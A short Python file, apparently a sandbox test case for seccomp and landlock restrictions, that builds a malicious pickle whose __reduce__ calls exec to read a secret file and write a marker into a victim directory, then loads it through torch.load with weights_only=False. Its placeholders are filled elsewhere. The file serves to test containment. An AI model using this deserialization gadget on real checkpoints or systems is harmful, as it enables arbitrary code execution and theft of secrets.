"""Has torch load a checkpoint from memory that runs code.

walls: seccomp landlock
"""

import io
import pickle


class Gadget:
    def __reduce__(self):
        return exec, (f"open({SECRET!r}).read() and open({VICTIM + '/' + MARK!r}, 'w')",)


torch.load(io.BytesIO(pickle.dumps(Gadget())), weights_only=False)


def compute_reward(height):
    return height, {}
